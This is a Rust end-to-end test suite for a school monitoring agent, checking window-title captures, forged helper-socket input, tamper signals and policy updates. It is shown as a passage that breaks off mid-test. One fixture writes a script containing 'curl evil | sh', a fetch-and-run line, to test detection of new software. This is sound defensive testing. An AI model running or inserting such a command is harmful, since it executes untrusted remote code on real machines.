//! The session helper under a real X server (Xvfb): window titles matched
//! against the default policy reach the collector as captures, tagged with
//! the account the kernel says the helper runs as.

use std::process::Command;
use std::time::Duration;

use hallmonitor_e2e::display::{start_helper, start_openbox, start_xvfb};
use hallmonitor_e2e::fixtures::{self, *};
use hallmonitor_e2e::{Agent, CollectorData, Value, cli_actor, text, wait_for};
use x11rb::connection::Connection;
use x11rb::protocol::xproto::{
    AtomEnum, ClientMessageEvent, ConnectionExt, CreateWindowAux, EventMask, PropMode, Window,
    WindowClass,
};
use x11rb::wrapper::ConnectionExt as _;

const WAIT: Duration = Duration::from_secs(60);

/// Plays the window manager's part: makes windows and says which is active.
struct Desktop {
    conn: x11rb::rust_connection::RustConnection,
    root: Window,
    net_active_window: u32,
    net_wm_name: u32,
    utf8_string: u32,
}

impl Desktop {
    fn connect(display: &str) -> Desktop {
        let (conn, screen) = x11rb::connect(Some(display)).expect("X connection");
        let root = conn.setup().roots[screen].root;
        let atom = |name: &[u8]| conn.intern_atom(false, name).unwrap().reply().unwrap().atom;
        Desktop {
            net_active_window: atom(b"_NET_ACTIVE_WINDOW"),
            net_wm_name: atom(b"_NET_WM_NAME"),
            utf8_string: atom(b"UTF8_STRING"),
            root,
            conn,
        }
    }

    fn window(&self) -> Window {
        self.window_at(0, 0, 0x000000)
    }

    /// A window painted in one colour (0xRRGGBB) at (x, y), 200×100.
    fn window_at(&self, x: i16, y: i16, colour: u32) -> Window {
        let id = self.conn.generate_id().unwrap();
        self.conn
            .create_window(
                0,
                id,
                self.root,
                x,
                y,
                200,
                100,
                0,
                WindowClass::INPUT_OUTPUT,
                0,
                &CreateWindowAux::new().background_pixel(colour),
            )
            .unwrap();
        self.conn.map_window(id).unwrap();
        self.conn.flush().unwrap();
        id
    }

    /// `_NET_WM_NAME`, as modern programs set it.
    fn title(&self, window: Window, title: &str) {
        self.conn
            .change_property8(
                PropMode::REPLACE,
                window,
                self.net_wm_name,
                self.utf8_string,
                title.as_bytes(),
            )
            .unwrap();
        self.conn.flush().unwrap();
    }

    /// Only `WM_NAME`, as some older programs do.
    fn legacy_title(&self, window: Window, title: &str) {
        self.conn
            .change_property8(
                PropMode::REPLACE,
                window,
                AtomEnum::WM_NAME,
                AtomEnum::STRING,
                title.as_bytes(),
            )
            .unwrap();
        self.conn.flush().unwrap();
    }

    /// A new window with `title`, made active.
    fn show(&self, title: &str) -> Window {
        let w = self.window();
        self.title(w, title);
        self.activate(w);
        w
    }

    fn activate(&self, window: Window) {
        self.conn
            .change_property32(
                PropMode::REPLACE,
                self.root,
                self.net_active_window,
                AtomEnum::WINDOW,
                &[window],
            )
            .unwrap();
        self.conn.flush().unwrap();
    }
}

fn captures(data: &CollectorData) -> Vec<Value> {
    let list = json(&data.cli(&["incidents", "list", "--format", "json"]));
    let mut all = Vec::new();
    for incident in list["incidents"].as_array().cloned().unwrap_or_default() {
        let shown = json(&data.cli(&[
            "incidents",
            "show",
            &incident["id"].to_string(),
            "--format",
            "json",
        ]));
        all.extend(shown["captures"].as_array().cloned().unwrap_or_default());
    }
    all.sort_by_key(|c| c["seq"].as_i64());
    all
}

#[test]
fn window_titles_matching_the_policy_become_captures_at_the_collector() {
    let data = CollectorData::init("Cabot");
    let (_xvfb, display) = start_xvfb(&data.logs());
    let collector = data.start();
    // Repeats counted for 20 s (60 by default), so the summary that ends
    // the count arrives within the test.
    let agent = Agent::with_capture(
        &data.agent_settings(&collector, "e2e-capture-1"),
        "repeat_window_secs = 20",
    );
    agent.enroll();
    let daemon = agent.start();
    let mut helper = start_helper(&agent, &display, &data.logs());
    // Minutes started before the helper hears of the 20 s window last 60 s.
    wait_for("the helper to receive the 20 s repeat window", WAIT, || {
        helper.assert_running();
        helper
            .stderr_text()
            .lines()
            .any(|l| l.contains("policy received") && l.contains("repeat_window_secs=20"))
            .then_some(())
    });
    let desktop = Desktop::connect(&display);

    // A red window at (300, 200) on a 1280×800 screen.
    let a = desktop.window_at(300, 200, 0xff0000);
    desktop.title(a, "how to kill myself - Chromium");
    desktop.activate(a);
    let first = wait_for("the first capture", WAIT, || {
        helper.assert_running();
        captures(&data).into_iter().next()
    });
    assert_eq!(first["category"], "self-harm");
    assert_eq!(first["matched_text"], "kill myself");
    assert_eq!(first["window_title"], "how to kill myself - Chromium");
    assert_eq!(first["image_status"], "verified", "{first}");
    // The snapshot shows the screen: the red window where it is.
    let out = tempfile::tempdir().unwrap();
    let incident =
        json(&data.cli(&["incidents", "list", "--format", "json"]))["incidents"][0]["id"]
            .to_string();
    let export = data.cli(&[
        "incidents",
        "export",
        &incident,
        "--out",
        out.path().to_str().unwrap(),
    ]);
    assert!(export.status.success(), "{}", text(&export.stderr));
    let png = std::fs::read(out.path().join(format!(
        "incident-{incident}/images/{}.png",
        first["image_sha256"].as_str().unwrap()
    )))
    .unwrap();
    let screen = image::load_from_memory(&png).unwrap().to_rgba8();
    assert_eq!((screen.width(), screen.height()), (1280, 800));
    assert_eq!(
        screen.get_pixel(400, 250).0[..3],
        [255, 0, 0],
        "inside the window"
    );
    assert_ne!(screen.get_pixel(50, 50).0[..3], [255, 0, 0], "outside it");
    let whoami = text(&Command::new("id").arg("-un").output().unwrap().stdout)
        .trim()
        .to_owned();
    assert_eq!(
        first["account"],
        whoami.as_str(),
        "the account comes from the socket's credentials"
    );

    // A program that sets only WM_NAME, with letter substitutions.
    let b = desktop.window();
    desktop.legacy_title(b, "k1ll mys3lf");
    desktop.activate(b);
    wait_for("the WM_NAME capture", WAIT, || {
        (captures(&data).len() == 2).then_some(())
    });

    // Harmless and excluded titles make nothing; a drugs title after them
    // is the marker that they were seen and passed over.
    let c = desktop.window();
    desktop.activate(c);
    for title in [
        "Year 8 maths homework",
        "Anti-Bullying Week: nobody likes you? posters",
    ] {
        desktop.title(c, title);
    }
    desktop.title(c, "buy weed near me");
    wait_for("the marker capture", WAIT, || {
        captures(&data)
            .iter()
            .any(|c| c["category"] == "drugs")
            .then_some(())
    });
    // Read again: everything before the marker is committed by now.
    let all = captures(&data);
    assert_eq!(
        all.len(),
        3,
        "nothing for the harmless or excluded titles: {all:?}"
    );
    // Each capture carries what was on screen before it (the policy's
    // default hour), oldest first, from the helper's memory through the
    // daemon to the collector; never the capture's own title.
    let context_titles = |capture: &Value| -> Vec<String> {
        capture["context"]
            .as_array()
            .unwrap_or_else(|| panic!("no context: {capture}"))
            .iter()
            .map(|e| {
                let at = |field: &str| -> jiff::Timestamp {
                    e[field].as_str().unwrap().parse().unwrap()
                };
                assert!(at("first_seen") <= at("last_seen"), "{e}");
                e["title"].as_str().unwrap().to_owned()
            })
            .collect()
    };
    let before_drugs = context_titles(&all[2]);
    let kill = before_drugs
        .iter()
        .position(|t| t == "how to kill myself - Chromium");
    let legacy = before_drugs.iter().position(|t| t == "k1ll mys3lf");
    assert!(
        kill.is_some() && legacy.is_some() && kill < legacy,
        "the earlier windows, oldest first: {before_drugs:?}"
    );
    assert!(
        !before_drugs.iter().any(|t| t == "buy weed near me"),
        "{before_drugs:?}"
    );
    assert!(
        context_titles(&all[1]).contains(&"how to kill myself - Chromium".to_owned()),
        "{}",
        all[1]
    );

    // A thousand rapid title changes matching one rule in one window: one
    // capture, the rest counted.
    let d = desktop.window();
    desktop.activate(d);
    desktop.title(d, "kill myself (0)");
    wait_for("the burst's first capture", WAIT, || {
        captures(&data)
            .iter()
            .any(|c| c["window_title"] == "kill myself (0)")
            .then_some(())
    });
    let (helper_pid, daemon_pid) = (helper.pid(), daemon.pid());
    let cpu = || cpu_seconds(helper_pid) + cpu_seconds(daemon_pid);
    let cpu_before = cpu();
    for n in 1..1_000 {
        desktop.title(d, &format!("kill myself ({n})"));
    }
    // The helper reads the title in force when it looks, so a busy helper
    // may see few of the changes: the burst's last title stays until it
    // has counted at least one repeat.
    wait_for("the helper to count a repeat", WAIT, || {
        helper.assert_running();
        helper
            .stderr_text()
            .contains("counting repeats")
            .then_some(())
    });
    desktop.title(d, "buy cocaine");
    wait_for("the second marker", WAIT, || {
        (captures(&data)
            .iter()
            .filter(|c| c["category"] == "drugs")
            .count()
            == 2)
            .then_some(())
    });
    // Cheap: no snapshot per change (that alone would be about a minute of
    // CPU). The figure for the release build is in BENCHMARKS.md.
    let used = cpu() - cpu_before;
    println!("helper and daemon CPU for 1,000 title changes: {used:.2} s");
    assert!(
        used < 1.0,
        "helper and daemon used {used:.2} s of CPU for 1,000 title changes"
    );
    let all = captures(&data);
    let in_burst = |c: &Value| {
        c["window_title"]
            .as_str()
            .unwrap_or("")
            .starts_with("kill myself (")
    };
    let snapshots = all
        .iter()
        .filter(|c| in_burst(c) && c["repeat_count"] == 0)
        .count();
    assert_eq!(
        snapshots,
        1,
        "rate-limited: {all:?}\n{}",
        text(&data.cli(&["incidents", "list"]).stdout)
    );
    // When the window is over, the repeats arrive as one summary.
    let summary = wait_for("the repeat summary", WAIT, || {
        captures(&data)
            .into_iter()
            .find(|c| in_burst(c) && c["repeat_count"].as_u64() > Some(0))
    });
    assert_eq!(summary["image_status"], "no_image", "{summary}");
    assert!(summary["repeat_count"].as_u64() < Some(1_000), "{summary}");
    assert!(
        summary["no_image_reason"]
            .as_str()
            .unwrap_or("")
            .starts_with("repeat summary"),
        "{summary}"
    );
    let all = captures(&data);
    assert_eq!(
        all.iter().filter(|c| in_burst(c)).count(),
        2,
        "one snapshot, one summary: {all:?}"
    );
}

/// A local user who writes to the helper socket directly (no helper, no
/// X server) cannot choose what the collector believes.
#[test]
fn the_daemon_checks_what_a_local_user_sends_on_the_helper_socket() {
    use std::io::{BufRead, Write};
    let data = CollectorData::init("Cabot");
    let collector = data.start();
    let agent = Agent::with_capture(&data.agent_settings(&collector, "e2e-forger"), "");
    agent.enroll();
    let _daemon = agent.start();
    wait_for("the daemon's helper socket", WAIT, || {
        agent.socket().exists().then_some(())
    });
    let mut socket = std::os::unix::net::UnixStream::connect(agent.socket()).unwrap();
    // The daemon speaks first (the policy), so it has accepted us.
    let mut first = String::new();
    std::io::BufReader::new(socket.try_clone().unwrap())
        .read_line(&mut first)
        .unwrap();
    assert!(first.contains("repeat_window_secs"), "{first}");
    let forged = |title: &str, image: &str| {
        serde_json::json!({
            "rule_id": "self-harm", "category": "self-harm", "severity": 5,
            "matched_text": "kill myself", "window_title": title,
            "process_name": "chromium", "pid": 1, "repeat_count": 0,
            "no_image_reason": "", "image_png_base64": image, "policy_version": 999,
        })
        .to_string()
            + "\n"
    };
    // A PNG header claiming 5000 pixels wide.
    let mut wide = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR".to_vec();
    wide.extend(5000u32.to_be_bytes());
    wide.extend(800u32.to_be_bytes());
    let wide = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, wide);
    for line in [
        forged("Year 8 maths homework", ""),
        forged("buy weed near me", ""),
        forged("how to kill myself", &wide),
    ] {
        socket.write_all(line.as_bytes()).unwrap();
    }
    let all = wait_for("the two checked captures", WAIT, || {
        let all = captures(&data);
        (all.len() == 2).then_some(all)
    });
    let policy = hallmonitor_agent::policy::Policy::default_policy();
    let severity_of = |category: &str| {
        policy
            .rules()
            .iter()
            .find(|r| r.category == category)
            .map(|r| i64::from(r.severity))
            .unwrap()
    };
    let drugs = all
        .iter()
        .find(|c| c["window_title"] == "buy weed near me")
        .unwrap();
    assert_eq!(
        drugs["category"], "drugs",
        "the daemon's own match: {drugs}"
    );
    assert_eq!(
        drugs["severity"].as_i64(),
        Some(severity_of("drugs")),
        "{drugs}"
    );
    let harm = all
        .iter()
        .find(|c| c["window_title"] == "how to kill myself")
        .unwrap();
    assert_eq!(harm["image_status"], "no_image", "{harm}");
    assert!(
        harm["no_image_reason"]
            .as_str()
            .unwrap_or_default()
            .starts_with("snapshot refused"),
        "{harm}"
    );
    assert!(
        all.iter()
            .all(|c| c["window_title"] != "Year 8 maths homework"),
        "{all:?}"
    );
    assert_eq!(agent.status()["helper_captures_refused"], 1);
    // ... and the collector is told, for the technician.
    let id = agent.status()["device_id"].as_str().unwrap().to_owned();
    wait_for("the refusal reported to the collector", WAIT, || {
        (data.device(&id)["outbox"]["captures_refused"] == 1).then_some(())
    });

    // A line longer than the limit is refused before it is buffered: the
    // daemon closes the connection and goes on serving.
    let huge = vec![b'x'; 8 << 20];
    let _ = socket.write_all(&huge);
    let mut rest = String::new();
    let closed = std::io::BufReader::new(socket.try_clone().unwrap()).read_line(&mut rest);
    assert!(
        matches!(closed, Ok(0) | Err(_)),
        "connection closed: {closed:?}"
    );
    std::os::unix::net::UnixStream::connect(agent.socket()).expect("still listening");
}

/// A graphical session whose helper is missing (killed by the pupil, or
/// never started) is reported as a monitoring gap, which closes when the
/// helper connects. A program of the pupil's own holding the socket open
/// is not a helper.
#[test]
fn a_graphical_session_without_its_helper_is_a_monitoring_gap_at_the_collector() {
    use std::io::BufRead;
    let data = CollectorData::init("Cabot");
    let collector = data.start();
    let (_xvfb, display) = start_xvfb(&data.logs());
    let root = tempfile::tempdir().unwrap();
    let utmp = root.path().join("utmp");
    let now = jiff::Timestamp::now().as_second();
    std::fs::write(
        &utmp,
        fixtures::utmp_record(&display, &whoami(), &display, now),
    )
    .unwrap();
    let agent = Agent::with_config_and_capture(
        &data.agent_settings(&collector, "e2e-gap"),
        &format!(
            "[sessions]\nsource = \"utmp\"\nutmp_path = \"{}\"\npoll_secs = 1\n",
            utmp.display()
        ),
        "helper_grace_secs = 2",
    );
    let id = agent.enroll();
    let mut daemon = agent.start();
    wait_for("the daemon's helper socket", WAIT, || {
        agent.socket().exists().then_some(())
    });
    // Not the helper: a connection from another program.
    let impostor = std::os::unix::net::UnixStream::connect(agent.socket()).unwrap();
    let mut first = String::new();
    std::io::BufReader::new(impostor.try_clone().unwrap())
        .read_line(&mut first)
        .unwrap();
    let device = wait_for("an open monitoring gap at the collector", WAIT, || {
        daemon.assert_running();
        let device = data.device(&id);
        (device["open_monitoring_gaps"] == 1).then_some(device)
    });
    let gap = &device["outbox"]["monitoring_gaps"][0];
    assert_eq!(gap["gap"], "no_session_helper", "{device}");
    assert!(gap["ended_at"].is_null(), "{device}");
    let list = data.cli(&["devices", "list"]);
    assert!(
        text(&list.stdout).contains("monitoring gap"),
        "{}",
        text(&list.stdout)
    );

    let mut helper = start_helper(&agent, &display, &data.logs());
    let device = wait_for("the gap closed by the helper", WAIT, || {
        helper.assert_running();
        let device = data.device(&id);
        (device["open_monitoring_gaps"] == 0).then_some(device)
    });
    let gap = &device["outbox"]["monitoring_gaps"][0];
    assert!(gap["ended_at"].is_string(), "{device}");
    assert_eq!(
        device["outbox"]["monitoring_gaps"]
            .as_array()
            .unwrap()
            .len(),
        1,
        "one gap, opened and closed once: {device}"
    );
    let show = text(&data.cli(&["devices", "show", &id]).stdout);
    assert!(show.contains("no session helper"), "{show}");
    drop(impostor);
}

/// A session helper killed while its graphical session stays open is
/// reported to the collector within seconds (long before the monitoring
/// gap's grace runs out) and opens a tamper flag for technicians.
#[test]
fn a_killed_session_helper_is_reported_while_its_session_stays_open() {
    let data = CollectorData::init("Cabot");
    let collector = data.start();
    let (_xvfb, display) = start_xvfb(&data.logs());
    let root = tempfile::tempdir().unwrap();
    let utmp = root.path().join("utmp");
    let now = jiff::Timestamp::now().as_second() - 60;
    std::fs::write(
        &utmp,
        fixtures::utmp_record(&display, &whoami(), &display, now),
    )
    .unwrap();
    let agent = Agent::with_config_and_capture(
        &data.agent_settings(&collector, "e2e-helper-killed"),
        &format!(
            "[sessions]\nsource = \"utmp\"\nutmp_path = \"{}\"\npoll_secs = 1\n",
            utmp.display()
        ),
        // Not the gap: the departure itself is what reports it.
        "helper_grace_secs = 3600",
    );
    let id = agent.enroll();
    let mut daemon = agent.start();
    let mut helper = start_helper(&agent, &display, &data.logs());
    wait_for("the helper to receive its policy", WAIT, || {
        helper.assert_running();
        helper
            .stderr_text()
            .contains("policy received")
            .then_some(())
    });
    helper.signal_and_wait(libc::SIGKILL);
    let signal = wait_for("a helper_gone signal at the collector", WAIT, || {
        daemon.assert_running();
        let device = data.device(&id);
        device["signals"]
            .as_array()
            .and_then(|s| s.iter().find(|s| s["signal"] == "helper_gone").cloned())
    });
    assert_eq!(signal["account"], whoami(), "{signal}");
    assert!(
        signal["session_id"].as_str().is_some_and(|s| !s.is_empty()),
        "{signal}"
    );
    let flags = text(&data.cli(&["flags", "list", "--format", "json"]).stdout);
    let flags: Value = serde_json::from_str(&flags).unwrap();
    let tamper: Vec<&Value> = flags["flags"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "tamper" && f["device_id"] == id.as_str())
        .collect();
    assert_eq!(tamper.len(), 1, "{flags}");
    assert!(
        !tamper[0]["summary"].as_str().unwrap().contains(&whoami()),
        "no account name in a flag's summary (it goes into notifications): {}",
        tamper[0]
    );
}

/// User plus system CPU time a process has used, in seconds.
fn cpu_seconds(pid: u32) -> f64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    // The fields after the command name, which is in parentheses.
    let fields: Vec<&str> = stat
        .rsplit_once(')')
        .unwrap()
        .1
        .split_whitespace()
        .collect();
    let ticks: f64 = fields[11].parse::<f64>().unwrap() + fields[12].parse::<f64>().unwrap();
    // SAFETY: sysconf has no preconditions.
    ticks / unsafe { libc::sysconf(libc::_SC_CLK_TCK) } as f64
}

fn whoami() -> String {
    text(&Command::new("id").arg("-un").output().unwrap().stdout)
        .trim()
        .to_owned()
}

#[test]
fn a_site_policy_set_at_the_collector_reaches_the_agent_and_its_helper() {
    let data = CollectorData::init("Cabot");
    let (_xvfb, display) = start_xvfb(&data.logs());
    let collector = data.start();
    // This test's user counts as staff on the device.
    let agent = Agent::with_capture(
        &data.agent_settings(&collector, "e2e-capture-3"),
        &format!("staff_accounts = [\"{}\"]", whoami()),
    );
    let id = agent.enroll();
    let mut daemon = agent.start();
    let mut helper = start_helper(&agent, &display, &data.logs());
    let desktop = Desktop::connect(&display);
    let titled = |title: &str| desktop.show(title);
    let captured = |title: &str| -> Option<Value> {
        captures(&data)
            .into_iter()
            .find(|c| c["window_title"] == title)
    };
    let policy_version = || data.device(&id)["policy_version"].as_u64();
    wait_for("the agent to connect", WAIT, || {
        (data.device(&id)["status"] == "online").then_some(())
    });
    assert_eq!(policy_version(), Some(0), "no site policy yet");

    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("cabot.toml");
    let site_policy = |phrase: &str| {
        format!(
            "extends = \"default\"\nversion = 3\n\
             [[rules]]\nid = \"cabot-local\"\ncategory = \"violence\"\nseverity = 3\nphrases = [\"{phrase}\"]\n\
             [[rules]]\nid = \"cabot-staff\"\ncategory = \"adult\"\nseverity = 2\nscope = \"staff\"\nphrases = [\"staffroom leak\"]\n\
             [[rules]]\nid = \"cabot-pupils\"\ncategory = \"adult\"\nseverity = 2\nscope = \"pupils\"\nphrases = [\"pupil only phrase\"]\n"
        )
    };
    // A broken file is refused, naming the line; nothing is saved.
    std::fs::write(&file, "[[rules]]\nid = \"x\"\nseverity = \"high\"\n").unwrap();
    let refused = data.cli(&["policy", "set", "--site", "Cabot", file.to_str().unwrap()]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(
        text(&refused.stderr).contains("cabot.toml: line 3"),
        "{}",
        text(&refused.stderr)
    );

    std::fs::write(&file, site_policy("zebra protocol")).unwrap();
    let saved = data.cli(&[
        "policy",
        "set",
        "--site",
        "Cabot",
        "--comment",
        "local phrases",
        "--by",
        "it.tech",
        file.to_str().unwrap(),
    ]);
    assert!(saved.status.success(), "{}", text(&saved.stderr));
    wait_for("the agent to hold version 1", WAIT, || {
        (policy_version() == Some(1)).then_some(())
    });
    assert_eq!(agent.status()["policy_site_version"], 1, "shown by status");
    titled("zebra protocol briefing");
    let local = wait_for("a capture by the site's own rule", WAIT, || {
        helper.assert_running();
        captured("zebra protocol briefing")
    });
    assert_eq!(local["rule_id"], "cabot-local");
    assert_eq!(local["policy_version"], 1, "the site's version number");
    // The default's rules still apply (extends); scope follows the
    // account: one title, three rules, the pupils' one skipped for staff.
    let mixed = "staffroom leak: pupil only phrase, how to kill myself";
    titled(mixed);
    let rules_for = |title: &str| -> Vec<String> {
        let mut rules: Vec<String> = captures(&data)
            .iter()
            .filter(|c| c["window_title"] == title)
            .map(|c| c["rule_id"].as_str().unwrap_or("").to_owned())
            .collect();
        rules.sort();
        rules
    };
    wait_for("the mixed title's captures", WAIT, || {
        (rules_for(mixed).len() >= 2).then_some(())
    });
    assert_eq!(
        rules_for(mixed),
        ["cabot-staff", "self-harm-suicide"],
        "the staff rule fires for a staff account, the pupils' rule does not"
    );

    // A new version reaches the running agent, and survives its restart.
    std::fs::write(&file, site_policy("yellow submarine")).unwrap();
    assert!(
        data.cli(&["policy", "set", "--site", "Cabot", file.to_str().unwrap()])
            .status
            .success()
    );
    wait_for("the agent to hold version 2", WAIT, || {
        (policy_version() == Some(2)).then_some(())
    });
    titled("yellow submarine");
    wait_for("a capture under version 2", WAIT, || {
        captured("yellow submarine").map(|_| ())
    });
    // The daemon restarts; the helper keeps running, holds what it
    // captures meanwhile, and reconnects.
    daemon.stop();
    titled("zebra protocol or yellow submarine");
    wait_for("the helper to notice the daemon has gone", WAIT, || {
        helper
            .stderr_text()
            .contains("the agent daemon is unreachable")
            .then_some(())
    });
    collector_policy_history(&data, 2);
    let _daemon = agent.start();
    wait_for("the restarted agent to report version 2", WAIT, || {
        (data.device(&id)["status"] == "online" && policy_version() == Some(2)).then_some(())
    });
    // Version 2 in force: of the two phrases only its own matched.
    let after = wait_for("the capture held while the daemon was down", WAIT, || {
        helper.assert_running();
        captured("zebra protocol or yellow submarine")
    });
    assert_eq!(after["matched_text"], "yellow submarine", "{after}");
    assert_eq!(after["policy_version"], 2);
    let held = captures(&data)
        .iter()
        .filter(|c| c["window_title"] == "zebra protocol or yellow submarine")
        .count();
    assert_eq!(
        held, 1,
        "sent once, though the restarted daemon resent the policy"
    );
}

/// `policy history` lists the versions and who saved them.
fn collector_policy_history(data: &CollectorData, versions: usize) {
    let history = json(&data.cli(&["policy", "history", "--site", "Cabot", "--format", "json"]));
    assert_eq!(history["schema"], "hallmonitor.policies.v1");
    assert_eq!(
        history["versions"].as_array().unwrap().len(),
        versions,
        "{history}"
    );
    assert_eq!(
        history["versions"][versions - 1]["created_by"],
        cli_actor("it.tech").as_str()
    );
    assert_eq!(
        history["versions"][versions - 1]["comment"],
        "local phrases"
    );
    let shown = data.cli(&["policy", "show", "--site", "Cabot", "--version", "1"]);
    assert!(text(&shown.stdout).contains("zebra protocol"));
}

#[test]
fn a_local_override_file_is_reloaded_and_a_broken_edit_keeps_the_last_good_one() {
    let data = CollectorData::init("Cabot");
    let (_xvfb, display) = start_xvfb(&data.logs());
    let collector = data.start();
    let agent = Agent::new(&data.agent_settings(&collector, "e2e-capture-2"));
    agent.enroll();
    let mut daemon = agent.start();
    let policy = agent.policy_override();
    let rule = |phrase: &str| {
        format!(
            "[[rules]]\nid = \"local\"\ncategory = \"violence\"\nseverity = 3\nphrases = [\"{phrase}\"]\n"
        )
    };
    let mut helper = start_helper(&agent, &display, &data.logs());
    let desktop = Desktop::connect(&display);
    let titled = |title: &str| desktop.show(title);
    let captured = |title: &str| captures(&data).iter().any(|c| c["window_title"] == title);
    let captured_starting = |prefix: &str| {
        captures(&data).iter().any(|c| {
            c["window_title"]
                .as_str()
                .is_some_and(|t| t.starts_with(prefix))
        })
    };

    // Written while the daemon runs: it takes over from the default.
    assert_eq!(agent.status()["policy_override"], Value::Null);
    std::fs::write(&policy, rule("zebra crossing alarm")).unwrap();
    assert_eq!(
        agent.status()["policy_override"],
        policy.display().to_string().as_str()
    );
    let mut n = 0;
    wait_for("a capture by the override's rule", WAIT, || {
        helper.assert_running();
        // New windows until the override is in force; any of them counts.
        n += 1;
        titled(&format!("zebra crossing alarm {n}"));
        captured_starting("zebra crossing alarm ").then_some(())
    });

    // Edited: the new phrase counts once the daemon has reloaded.
    std::fs::write(&policy, rule("yellow submarine")).unwrap();
    wait_for("the edited override in force", WAIT, || {
        n += 1;
        titled(&format!("yellow submarine {n}"));
        captured_starting("yellow submarine ").then_some(())
    });

    // A broken edit is refused (logged with its line) and the last good
    // policy stays.
    std::fs::write(&policy, "[[rules]]\nid = \"local\"\nseverity = \"high\"\n").unwrap();
    wait_for("the broken edit to be noticed", WAIT, || {
        let log = daemon.stderr_text();
        (log.contains("policy not reloaded") && log.contains("policy.local.toml: line 3"))
            .then_some(())
    });
    titled("yellow submarine again");
    wait_for("the last good policy still matching", WAIT, || {
        captured("yellow submarine again").then_some(())
    });
    assert!(daemon.has_exited().is_none(), "the daemon keeps running");
}

#[test]
fn new_software_in_a_watched_folder_is_reported_once() {
    let data = CollectorData::init("Cabot");
    let collector = data.start();
    let downloads = tempfile::tempdir().unwrap();
    let agent = Agent::with_config(
        &data.agent_settings(&collector, "e2e-files-1"),
        "",
        &format!("[files]\nwatch = [\"{}\"]\n", downloads.path().display()),
    );
    let id = agent.enroll();
    let _daemon = agent.start();
    let alerts = || -> Vec<Value> {
        fixtures::runtime().block_on(async {
            let pool = sqlx::SqlitePool::connect_with(
                sqlx::sqlite::SqliteConnectOptions::new().filename(data.data.join("collector.db")),
            )
            .await
            .unwrap();
            let bodies: Vec<String> = sqlx::query_scalar(
                "SELECT body FROM events WHERE device_id = ? AND kind = 'file_alert' ORDER BY seq",
            )
            .bind(&id)
            .fetch_all(&pool)
            .await
            .unwrap();
            pool.close().await;
            bodies
                .iter()
                .map(|b| serde_json::from_str(b).unwrap())
                .collect()
        })
    };
    // The watcher looks at the folder once it has started; a document
    // first (not software), then a script.
    let essay = downloads.path().join("essay.docx");
    let script = downloads.path().join("free-robux.sh");
    wait_for("the script to be reported", WAIT, || {
        std::fs::write(&essay, b"words").unwrap();
        std::fs::write(&script, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
        (!alerts().is_empty()).then_some(())
    });
    let found = alerts();
    assert!(
        found
            .iter()
            .all(|a| a["path"] != essay.display().to_string()),
        "{found:?}"
    );
    let alert = &found[0];
    assert_eq!(alert["path"], script.display().to_string());
    assert_eq!(alert["severity"], 2);
    assert_eq!(alert["category"], "unapproved-software");
    assert_eq!(alert["sha256"].as_str().unwrap().len(), 64);
    assert_eq!(found.len(), 1, "the same file once: {found:?}");

    // The alert is evidence in an incident for the DSL.
    let list = json(&data.cli(&["incidents", "list", "--format", "json"]));
    let incident = &list["incidents"][0];
    assert_eq!(incident["category"], "unapproved-software", "{list}");
    let all = captures(&data);
    let evidence = &all[0];
    assert_eq!(evidence["kind"], "file");
    assert_eq!(evidence["file_path"], script.display().to_string());
    assert_eq!(evidence["file_sha256"], alert["sha256"]);
    assert_eq!(evidence["matched_text"], "free-robux.sh");
}

#[test]
fn under_a_real_window_manager_the_window_it_activates_is_watched() {
    let data = CollectorData::init("Cabot");
    let (_xvfb, display) = start_xvfb(&data.logs());
    let _openbox = start_openbox(&display, &data.logs());
    let collector = data.start();
    let agent = Agent::new(&data.agent_settings(&collector, "e2e-capture-4"));
    agent.enroll();
    let _daemon = agent.start();
    let mut helper = start_helper(&agent, &display, &data.logs());
    // This connection only makes windows: openbox decides which is active.
    let desktop = Desktop::connect(&display);
    let opened = |title: &str| {
        let id = desktop.conn.generate_id().unwrap();
        desktop
            .conn
            .create_window(
                0,
                id,
                desktop.root,
                100,
                100,
                300,
                200,
                0,
                WindowClass::INPUT_OUTPUT,
                0,
                &CreateWindowAux::new().background_pixel(0x00ff00),
            )
            .unwrap();
        desktop.title(id, title);
        desktop.conn.map_window(id).unwrap();
        desktop.conn.flush().unwrap();
        id
    };
    let categories = || -> Vec<String> {
        captures(&data)
            .iter()
            .map(|c| c["category"].as_str().unwrap_or("").to_owned())
            .collect()
    };

    // A new window gets the focus from openbox.
    let first = opened("how to kill myself - Chromium");
    wait_for("the capture of the window openbox focused", WAIT, || {
        helper.assert_running();
        (categories() == ["self-harm"]).then_some(())
    });
    // Another takes the focus; the first, now in the background, changes
    // its title: not what the user is looking at, so nothing yet.
    let second = opened("Year 8 maths homework");
    wait_for("openbox to activate the second window", WAIT, || {
        (active_window(&desktop) == Some(second)).then_some(())
    });
    desktop.title(first, "buy weed near me - Chromium");
    // A marker in the window in front: once it is captured, a capture of
    // the background title would have arrived too.
    desktop.title(second, "nobody likes you - Chromium");
    wait_for("the marker capture", WAIT, || {
        categories().contains(&"bullying".to_owned()).then_some(())
    });
    assert_eq!(
        categories(),
        ["self-harm", "bullying"],
        "nothing from the background"
    );
    // Switching back through the window manager (as a taskbar does).
    let request = ClientMessageEvent::new(
        32,
        first,
        desktop.net_active_window,
        [2, x11rb::CURRENT_TIME, 0, 0, 0],
    );
    desktop
        .conn
        .send_event(
            false,
            desktop.root,
            EventMask::SUBSTRUCTURE_REDIRECT | EventMask::SUBSTRUCTURE_NOTIFY,
            request,
        )
        .unwrap();
    desktop.conn.flush().unwrap();
    wait_for("the capture after switching back", WAIT, || {
        (categories().len() == 3).then_some(())
    });
    assert_eq!(categories(), ["self-harm", "bullying", "drugs"]);
}

/// The root's `_NET_ACTIVE_WINDOW`, as the window manager set it.
fn active_window(desktop: &Desktop) -> Option<Window> {
    let reply = desktop
        .conn
        .get_property(
            false,
            desktop.root,
            desktop.net_active_window,
            AtomEnum::WINDOW,
            0,
            1,
        )
        .ok()?
        .reply()
        .ok()?;
    reply.value32()?.next().filter(|w| *w != 0)
}

/// Groups from the directory reach the device for the accounts that use
/// it: a rule scoped to the user's group fires, one scoped to another
/// group does not, and an ignored word (a pupil's name that is also slang)
/// does not fire, while the other phrases of the same title still do.
#[test]
fn group_scoped_rules_and_ignored_words_follow_the_directory() {
    let data = CollectorData::init("Cabot");
    let (_xvfb, display) = start_xvfb(&data.logs());
